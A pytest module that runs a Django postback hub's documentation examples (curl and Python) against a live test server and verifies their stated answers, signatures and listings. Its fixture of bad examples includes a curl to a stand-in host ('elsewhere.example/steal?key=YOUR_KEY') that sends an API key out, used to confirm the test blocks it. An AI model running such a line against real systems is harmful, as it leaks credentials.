"""Every curl and Python example in docs/*.md and README.md runs against the live server, with the answer it states.

The documents are executable, so they cannot drift from the code:

- In ```sh and ```bash blocks, each `curl` command runs with the real curl binary against pytest-django's live
  server, and the line right after it states the answer: `# -> 200 {"success": true}`, the HTTP status and
  optionally a JSON object the body must contain (a subset: keys not named are not checked). A curl without that
  line fails. Lines that assign shell variables (`NAME=...`) run before every curl after them in the same block;
  `manage.py` lines are not run, but their command and options are checked against the command's real parser;
  any other line in a block with a curl fails, and so does a curl anywhere a test cannot run it.
- ```python blocks run as scripts with the project's Python (`requests` and `standardwebhooks` are installed). A
  client script prints one `status body` line per answer (`print(response.status_code, response.text)`), and the
  block's `# -> ...` lines state, in order, what each must be; a block that states nothing fails. A block that
  calls `serve_forever()` is a partner endpoint: the last test starts it and has the hub send it real signed
  deliveries.

Placeholders, explained at the top of each document, are replaced before anything runs:

  https://hub.example.com (README: http://127.0.0.1:8000)  the live server, on 127.0.0.1
  YOUR_KEY (README: <key>)    the key of "Example Network", made here as the docs describe it
  CLICK_ID (README: <click>)  a click of ours on that network's offer
  OFFER_ID                    that offer's id
  YOUR_SECRET                 an HMAC secret; the network has it while the block that names it runs, and only then
  <token> (README)            the API token of a staff user in the support group
  APP_TOKEN                   the API token of an app server's user, allowed to claim offers and nothing else

Each document runs top to bottom on a fresh database, so an example may rely on the ones before it (a duplicate
repeats an earlier postback). Nothing is sent anywhere but the live server and, in the last test, a local port.
"""

import hashlib
import hmac
import json
import os
import re
import shlex
import socket
import subprocess
import sys
import time
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import pytest
import requests
from django.contrib.auth.models import Permission
from django.core.management import get_commands, load_command_class
from django.core.management.base import CommandError
from rest_framework.authtoken.models import Token

from partners import signing, transport
from partners.macros import event_values
from partners.models import Delivery, Partner, State
from partners.outbound import build_request
from partners.templating import ESCAPES, MACROS
from receiver.lifecycle import WORDS
from receiver.models import Click, Network, Offer
from receiver.params import FIELDS

ROOT = Path(__file__).resolve().parents[2]
DOCS_DIR = ROOT / "docs"
README = ROOT / "README.md"
DOCUMENTS = [*sorted(DOCS_DIR.glob("*.md")), README]
EXPECTED_DOCS = [
    "quick-reference.md",
    "network-integration.md",
    "partner-guide.md",
    "operations.md",
    "examples.md",
    "claims.md",
]

DOC_BASES = ("https://hub.example.com", "http://127.0.0.1:8000")
HMAC_SECRET = "docs-example-secret-7f3a9c"
SHELL = {"sh", "bash"}
FENCE = re.compile(r"^\s*(`{3,}|~{3,})\s*([\w+-]*)")
EXPECT = re.compile(r"^\s*#\s*->\s*(\d{3})\b\s*(.*?)\s*$")
ANSWER = re.compile(r"^(\d{3})(?: (.*))?$")
ASSIGNMENT = re.compile(r"^[A-Za-z_][A-Za-z0-9_]*=")
URL = re.compile(r"https?://[^\s'\"\\)]+")
# curl options that would change what the test reads back (it adds -o and -w itself).
CURL_OUTPUT_OPTIONS = {"-o", "--output", "-O", "-w", "--write-out", "-i", "--include", "-I", "--head", "-v"}
SHELL_OPERATORS = {"|", "||", "&", "&&", ";", ">", ">>", "<", "<<"}


def _shown(path):
    return str(path.relative_to(ROOT)) if path.is_relative_to(ROOT) else str(path)


@dataclass
class Block:
    path: Path
    line: int  # line number of the block's first content line
    lang: str
    lines: list

    @property
    def text(self):
        return "\n".join(self.lines)

    def where(self, offset=0):
        return f"{_shown(self.path)}:{self.line + offset}"


@dataclass
class Command:
    line: int  # offset from the block's first line
    text: str

    @property
    def kind(self):
        stripped = self.text.strip()
        if stripped.startswith("#"):
            return "expect" if EXPECT.match(stripped) else "comment"
        if "manage.py" in stripped:
            return "manage"
        if stripped.startswith("curl "):
            return "curl"
        if re.search(r"(^|[\s|;&(])curl\s", stripped):
            return "hidden-curl"
        if ASSIGNMENT.match(stripped):
            return "assign"
        return "other"


def read_blocks(path):
    blocks, fence = [], None
    for number, text in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
        if fence is None:
            match = FENCE.match(text)
            if match:
                fence, lang, start, lines = match.group(1), match.group(2).lower(), number + 1, []
        elif text.strip() and set(text.strip()) == {fence[0]} and len(text.strip()) >= len(fence):
            blocks.append(Block(path, start, lang, lines))
            fence = None
        else:
            lines.append(text)
    assert fence is None, f"{_shown(path)}: a code block is not closed"
    return blocks


def commands(block):
    """The block's logical shell lines: continuation backslashes and quotes spanning lines are joined."""
    found, buffer, start = [], [], 0
    for offset, text in enumerate(block.lines):
        if not buffer:
            if not text.strip():
                continue
            start = offset
        buffer.append(text)
        joined = "\n".join(buffer)
        if text.endswith("\\"):
            continue
        try:
            shlex.split(joined, comments=True)
        except ValueError:
            continue  # a quote still open: the command goes on
        found.append(Command(start, joined))
        buffer = []
    if buffer:
        found.append(Command(start, "\n".join(buffer)))
    return found


def expectation(text):
    match = EXPECT.match(text)
    return int(match.group(1)), match.group(2)


def contains(got, wanted):
    if isinstance(wanted, dict):
        return isinstance(got, dict) and all(k in got and contains(got[k], v) for k, v in wanted.items())
    if isinstance(wanted, list):
        return isinstance(got, list) and len(got) == len(wanted) and all(map(contains, got, wanted))
    return got == wanted and type(got) is type(wanted)


def check_answer(where, expected, status, body, values):
    code, wanted = expected
    if status != code:
        return f"{where}: answered {status}, the docs say {code}\n  body: {body[:600]}"
    if not wanted:
        return None
    try:
        wanted = json.loads(substitute(wanted, values))
    except ValueError:
        return f"{where}: the expected body is not JSON: {wanted}"
    try:
        got = json.loads(body)
    except ValueError:
        return f"{where}: the answer is not JSON: {body[:600]}"
    if not contains(got, wanted):
        return f"{where}: the answer does not contain what the docs say\n  docs:   {wanted}\n  answer: {got}"
    return None


def substitute(text, values):
    for placeholder, value in values.items():
        if placeholder.isidentifier():
            pattern = rf"(?<![A-Za-z0-9_]){re.escape(placeholder)}(?![A-Za-z0-9_])"
        else:
            pattern = re.escape(placeholder)
        text = re.sub(pattern, lambda _match, value=value: value, text)
    return text


def clean_env(**extra):
    env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
    env["NO_PROXY"] = env["no_proxy"] = "*"
    env.update(extra)
    return env


def only_to(base, where, text):
    """Examples may talk to the live server and nothing else."""
    strangers = [url for url in URL.findall(text) if not url.startswith(base)]
    return f"{where}: this example would reach {strangers}, not the hub" if strangers else None


def check_manage(where, text):
    """A manage.py line is not run; its command must exist and take the options shown."""
    lexer = shlex.shlex(text.replace("\\\n", " "), posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    lexer.commenters = "#"
    tokens = list(lexer)
    index = next(i for i, token in enumerate(tokens) if token.endswith("manage.py"))
    args = []
    for token in tokens[index + 1 :]:
        if token in SHELL_OPERATORS:
            break
        args.append(token)
    if not args:
        return f"{where}: manage.py without a command"
    name, options = args[0], args[1:]
    available = get_commands()
    if name not in available:
        return f"{where}: there is no manage.py command {name!r}"
    parser = load_command_class(available[name], name).create_parser("manage.py", name)
    try:
        parser.parse_args(options)
    except (CommandError, SystemExit) as exc:
        return f"{where}: manage.py {name} refuses {options}: {exc}"
    return None


@pytest.fixture
def world(db):
    """What the placeholders stand for: the network the docs' `create_network` line makes, an offer, a click."""
    network = Network.objects.create(
        name="Example Network",
        param_mapping={"click_id": "subid", "payout": "sum"},
        status_mapping={"2": "pending", "3": "rejected"},
    )
    offer = Offer.objects.create(
        network=network,
        name="Example Offer",
        url="https://network.example/go?aff_sub={click_id}",
        payout=Decimal("2.00"),
    )
    click = Click.objects.create(offer=offer, user_id="user-42")
    return network, offer, click


SUPPORT_APPS = ("receiver", "partners", "testing_tools")


@pytest.fixture
def api_token(db, django_user_model):
    staff = django_user_model.objects.create_user("docs-staff", password="unused-docs-password", is_staff=True)
    # The support group's permissions, as the README's alice has; not the group, which the flush after each
    # live-server test deletes with every other row.
    views = Permission.objects.filter(content_type__app_label__in=SUPPORT_APPS, codename__startswith="view_")
    staff.user_permissions.add(*views)
    return Token.objects.create(user=staff).key


@pytest.fixture
def app_token(db, django_user_model):
    app_server = django_user_model.objects.create_user("docs-app-server")
    app_server.user_permissions.add(Permission.objects.get(codename="claim_offer"))
    return Token.objects.create(user=app_server).key


def placeholder_values(base, network, offer, click, token="", app_token=""):
    values = dict.fromkeys(DOC_BASES, base)
    values.update(
        {
            "YOUR_KEY": network.key,
            "<key>": network.key,
            "CLICK_ID": click.click_id,
            "<click>": click.click_id,
            "OFFER_ID": str(offer.pk),
            "YOUR_SECRET": HMAC_SECRET,
            "<token>": token,
            "APP_TOKEN": app_token,
        }
    )
    return values


class Runner:
    def __init__(self, base, values, network, tmp_path):
        self.base, self.values, self.network, self.tmp_path = base, values, network, tmp_path
        self.problems, self.ran = [], 0

    def problem(self, text):
        if text:
            self.problems.append(text)

    def set_secret_for(self, block):
        if self.network is not None:
            secret = HMAC_SECRET if "YOUR_SECRET" in block.text else ""
            Network.objects.filter(pk=self.network.pk).update(hmac_secret=secret)

    def document(self, path):
        for block in read_blocks(path):
            if block.lang in SHELL:
                self.set_secret_for(block)
                self.shell(block)
            elif block.lang == "python":
                self.set_secret_for(block)
                self.python(block)
            elif any(command.kind in ("curl", "hidden-curl") for command in commands(block)):
                self.problem(f"{block.where()}: a curl in a ```{block.lang or '(plain)'} block is never run; use ```sh")

    def shell(self, block):
        found = commands(block)
        assignments = []
        for index, command in enumerate(found):
            where, kind = block.where(command.line), command.kind
            if kind == "manage":
                self.problem(check_manage(where, command.text))
            elif kind == "hidden-curl":
                self.problem(f"{where}: a curl inside another command cannot be run by the test: {command.text}")
            elif kind == "assign":
                assignments.append(command.text)
            elif kind == "expect" and (index == 0 or found[index - 1].kind != "curl"):
                self.problem(f"{where}: an answer line that follows no curl: {command.text.strip()}")
            elif kind == "curl":
                after = found[index + 1] if index + 1 < len(found) else None
                if after is None or after.kind != "expect":
                    self.problem(f"{where}: no `# -> CODE {{json}}` line right after this curl: {command.text}")
                    continue
                self.curl(where, assignments, command.text, expectation(after.text.strip()))
            elif kind == "other" and any(c.kind == "curl" for c in found):
                self.problem(
                    f"{where}: a block with a curl may hold only NAME=... lines, curls, comments and manage.py"
                )

    def curl(self, where, assignments, text, expected):
        setup = substitute("\n".join(assignments), self.values)
        text = substitute(text, self.values)
        lexer = shlex.shlex(text.replace("\\\n", " "), posix=True, punctuation_chars=True)
        lexer.whitespace_split = True
        lexer.commenters = "#"
        tokens = list(lexer)
        bad = [token for token in tokens if token in SHELL_OPERATORS or token in CURL_OUTPUT_OPTIONS]
        if bad:
            self.problem(f"{where}: the test cannot read this curl's answer with {bad} in it")
            return
        stranger = only_to(self.base, where, setup + "\n" + text)
        if stranger:
            self.problem(stranger)
            return
        body_file = self.tmp_path / "curl-body"
        body_file.unlink(missing_ok=True)
        run = """curl -sS --max-time 20 --noproxy '*' -o "$DOCS_CURL_BODY" -w '%{http_code}'"""
        script = "set -euo pipefail\n" + setup + "\n" + run + text.lstrip()[len("curl") :]
        done = subprocess.run(
            ["bash", "-c", script],
            env=clean_env(DOCS_CURL_BODY=str(body_file)),
            capture_output=True,
            text=True,
            timeout=60,
            check=False,
        )
        self.ran += 1
        if done.returncode != 0 or not done.stdout.isdigit():
            self.problem(f"{where}: curl failed ({done.returncode}): {done.stderr.strip()}\n  {script}")
            return
        body = body_file.read_text(encoding="utf-8") if body_file.exists() else ""
        self.problem(check_answer(where, expected, int(done.stdout), body, self.values))

    def python(self, block):
        if "serve_forever()" in block.text:
            return  # a partner endpoint: test_the_partner_endpoint_example_verifies_real_signed_deliveries runs it
        where = block.where()
        expected = [expectation(line) for line in block.lines if EXPECT.match(line)]
        if not expected:
            self.problem(f"{where}: a Python example states no answer (`# -> CODE {{json}}` after its print)")
            return
        code = substitute(block.text, self.values)
        stranger = only_to(self.base, where, code)
        if stranger:
            self.problem(stranger)
            return
        script = self.tmp_path / f"example_{block.line}.py"
        script.write_text(code, encoding="utf-8")
        done = subprocess.run(
            [sys.executable, str(script)],
            cwd=self.tmp_path,
            env=clean_env(),
            capture_output=True,
            text=True,
            timeout=90,
            check=False,
        )
        self.ran += 1
        if done.returncode != 0:
            self.problem(f"{where}: the example exits with {done.returncode}:\n{done.stderr[-2000:]}")
            return
        answers = [ANSWER.match(line) for line in done.stdout.splitlines()]
        answers = [(int(m.group(1)), m.group(2) or "") for m in answers if m]
        if len(answers) != len(expected):
            self.problem(f"{where}: printed {len(answers)} answers, the block states {len(expected)}:\n{done.stdout}")
            return
        for number, ((status, body), wanted) in enumerate(zip(answers, expected, strict=True), start=1):
            self.problem(check_answer(f"{where} (answer {number})", wanted, status, body, self.values))


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("path", DOCUMENTS, ids=lambda path: path.name)
def test_every_example_answers_as_documented(path, live_server, world, api_token, app_token, tmp_path):
    base = f"http://127.0.0.1:{live_server.thread.port}"
    network, offer, click = world
    values = placeholder_values(base, network, offer, click, api_token, app_token)
    runner = Runner(base, values, network, tmp_path)
    runner.document(path)
    assert runner.ran > 0 or path.name == "partner-guide.md", "no example ran: is the document empty?"
    assert not runner.problems, f"{len(runner.problems)} example(s) disagree with the code:\n\n" + "\n\n".join(
        runner.problems
    )


def test_each_document_exists_and_the_readme_links_it():
    readme = README.read_text(encoding="utf-8")
    names = sorted(path.name for path in DOCS_DIR.glob("*.md"))
    assert set(EXPECTED_DOCS) <= set(names)
    assert [name for name in names if f"](docs/{name})" not in readme] == []


@pytest.mark.parametrize("path", DOCUMENTS, ids=lambda path: path.name)
def test_relative_links_lead_to_files(path):
    text = path.read_text(encoding="utf-8")
    targets = re.findall(r"\]\(([^)\s]+)\)", text)
    local = [t.split("#")[0] for t in targets if "://" not in t and not t.startswith(("#", "mailto:"))]
    missing = [target for target in local if target and not (path.parent / target).exists()]
    assert missing == []


def _documented(path):
    return path.read_text(encoding="utf-8")


def test_operations_guide_lists_every_environment_variable():
    settings_source = (ROOT / "postbacks_project" / "settings.py").read_text(encoding="utf-8")
    names = set(
        re.findall(r"""(?:env(?:\.\w+)?|_strict_bool|_decimal)\(\s*["']([A-Z][A-Z0-9_]+)["']""", settings_source)
    )
    names |= set(re.findall(r"\$\{([A-Z][A-Z0-9_]+)", (ROOT / "Procfile").read_text(encoding="utf-8")))
    for app in ("postbacks_project", "receiver", "partners", "testing_tools"):
        for source in (ROOT / app).rglob("*.py"):
            text = source.read_text(encoding="utf-8")
            names |= set(re.findall(r"""os\.(?:environ\.get\(|environ\[|getenv\()\s*["']([A-Z][A-Z0-9_]+)""", text))
    assert len(names) > 20, "the settings parser found too few variables: has settings.py changed shape?"
    guide = _documented(DOCS_DIR / "operations.md")
    assert sorted(name for name in names if f"`{name}`" not in guide) == []


def test_partner_guide_lists_every_macro():
    guide = _documented(DOCS_DIR / "partner-guide.md")
    assert sorted(name for name in [*MACROS, "custom.KEY"] if f"`{{{name}}}`" not in guide) == []


def test_network_guide_lists_every_status_word():
    guide = _documented(DOCS_DIR / "network-integration.md")
    assert sorted(word for word in [*WORDS, "test"] if f"`{word}`" not in guide) == []


def test_quick_reference_lists_every_parameter_and_alias():
    guide = _documented(DOCS_DIR / "quick-reference.md")
    names = {name for aliases in FIELDS.values() for name in aliases} | {"key"}
    assert sorted(name for name in names if f"`{name}`" not in guide) == []


def test_the_hmac_worked_example_is_right():
    guide = _documented(DOCS_DIR / "network-integration.md")
    secret = re.search(r"^\| secret \| `([^`]+)` \|", guide, re.M).group(1)
    signed = re.search(r"^\| signed text \| `([^`]+)` \|", guide, re.M).group(1)
    stated = re.search(r"^\| `X-Signature` \| `([0-9a-f]{64})` \|", guide, re.M).group(1)
    assert hmac.new(secret.encode(), signed.encode(), hashlib.sha256).hexdigest() == stated


def test_the_encoding_table_is_right():
    guide = _documented(DOCS_DIR / "partner-guide.md")
    value = re.search(r"^\| value \| `([^`]+)` \|", guide, re.M).group(1)
    for escape in ("url", "form", "json"):
        stated = re.search(rf"^\| {escape} \| `([^`]+)` \|", guide, re.M).group(1)
        assert ESCAPES[escape](value) == stated, escape


def _free_port():
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def _wait_for_port(port, process, timeout=20):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if process.poll() is not None:
            pytest.fail(f"the partner endpoint example exited: {process.communicate()}")
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5):
                return
        except OSError:
            time.sleep(0.05)
    pytest.fail("the partner endpoint example never listened")


@pytest.mark.django_db(transaction=True)
def test_the_partner_endpoint_example_verifies_real_signed_deliveries(live_server, world, settings, tmp_path):
    """The partner guide's endpoint, run as written, verifies what the hub really sends (with the library)."""
    servers = [
        b for b in read_blocks(DOCS_DIR / "partner-guide.md") if b.lang == "python" and "serve_forever()" in b.text
    ]
    assert servers, "the partner guide has no runnable partner endpoint"
    settings.OUTBOUND_ALLOW_LOOPBACK = True
    network, _offer, click = world
    base = f"http://127.0.0.1:{live_server.thread.port}"
    for number, block in enumerate(servers):
        port, secret = _free_port(), signing.generate_secret()
        script = tmp_path / f"partner_{number}.py"
        script.write_text(block.text, encoding="utf-8")
        endpoint = subprocess.Popen(
            [sys.executable, str(script)],
            cwd=tmp_path,
            env=clean_env(PORT=str(port), WEBHOOK_SECRET=secret),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        try:
            _wait_for_port(port, endpoint)
            here = f"http://127.0.0.1:{port}/postback"
            partners = [
                Partner(
                    name=f"JSON partner {number}",
                    postback_url=here,
                    method="POST",
                    body_type="json",
                    body_template='{"click_id": "{click_id}", "status": "{status}", "payout": {payout}}',
                    signing_secret=secret,
                ),
                Partner(
                    name=f"form partner {number}",
                    postback_url=here,
                    method="POST",
                    body_type="form",
                    body_template="click_id={click_id}&status={status}&payout={payout}",
                    signing_secret=secret,
                ),
                Partner(
                    name=f"GET partner {number}",
                    postback_url=here + "?click_id={click_id}&status={status}&payout={payout}"
                    "&ts={signature_ts}&sig={signature}",
                    signing_secret=secret,
                ),
            ]
            for partner in partners:
                partner.full_clean()
                partner.save()
            transaction_id = f"partner-example-{number}"
            answer = requests.get(
                f"{base}/postback/{network.key}/",
                params={"click_id": click.click_id, "payout": "2.00", "transaction_id": transaction_id},
                timeout=30,
            )
            assert answer.json()["success"] is True
            deliveries = Delivery.objects.filter(event__conversion__transaction_id=transaction_id)
            states = {d.destination.name: (d.state, d.last_status_code, d.last_error) for d in deliveries}
            assert states == {p.name: (State.SUCCEEDED, 200, "") for p in partners}

            # A retry of something the endpoint already has: same webhook-id, fresh timestamp and signature.
            delivery = deliveries.get(destination=partners[0])
            again = build_request(
                partners[0], event_values(delivery, partners[0]), delivery.webhook_id, int(time.time())
            )
            repeat = transport.send(again)
            assert (repeat.status, repeat.body.strip()) == (200, "duplicate")

            # Signed with another secret: refused.
            forged = build_request(partners[0], event_values(delivery, partners[0]), "msg_x", int(time.time()))
            forged.headers.update(signing.headers(signing.generate_secret(), "msg_x", int(time.time()), forged.body))
            assert transport.send(forged).status == 401

            # A GET whose URL was changed on the way: its headers still verify, its URL signature does not.
            delivery = deliveries.get(destination=partners[2])
            get = build_request(partners[2], event_values(delivery, partners[2]), "msg_y", int(time.time()))
            get.url = re.sub(r"payout=[^&]*", "payout=999", get.url)
            refused = transport.send(get)
            assert (refused.status, refused.body.strip()) == (401, "bad URL signature")
        finally:
            endpoint.terminate()
            out, err = endpoint.communicate(timeout=10)
        credited = [line for line in out.splitlines() if line.startswith("new postback msg_")]
        assert len(credited) == len(partners), f"stdout:\n{out}\nstderr:\n{err}"
        assert all(f"'click_id': '{click.click_id}'" in line for line in credited), out


UNRUNNABLE = """\
```sh
curl 'https://hub.example.com/api/postback/health'
echo done
```

```sh
curl 'https://elsewhere.example/steal?key=YOUR_KEY'
# -> 200
```

```sh
curl 'https://hub.example.com/api/postback/health' | jq .
# -> 200
```

```text
curl 'https://hub.example.com/api/postback/health'
```

```python
print("no answer stated")
```

```sh
# -> 200 {"dangling": true}
```
"""


def test_an_example_the_test_cannot_check_fails_it(tmp_path):
    """No curl or Python example is skipped silently: each way of escaping the check is reported."""
    (tmp_path / "docs").mkdir()
    doc = tmp_path / "docs" / "bad.md"
    doc.write_text(UNRUNNABLE, encoding="utf-8")
    runner = Runner("http://127.0.0.1:9", {DOC_BASES[0]: "http://127.0.0.1:9"}, None, tmp_path)
    runner.document(doc)
    assert runner.ran == 0
    expected = [
        "no `# -> CODE {json}` line right after this curl",
        "a block with a curl may hold only",
        "would reach ['https://elsewhere.example/steal?key=YOUR_KEY']",
        "cannot read this curl's answer with ['|']",
        "a curl in a ```text block is never run",
        "a Python example states no answer",
        "an answer line that follows no curl",
    ]
    assert len(runner.problems) == len(expected), runner.problems
    for problem, wanted in zip(runner.problems, expected, strict=True):
        assert wanted in problem
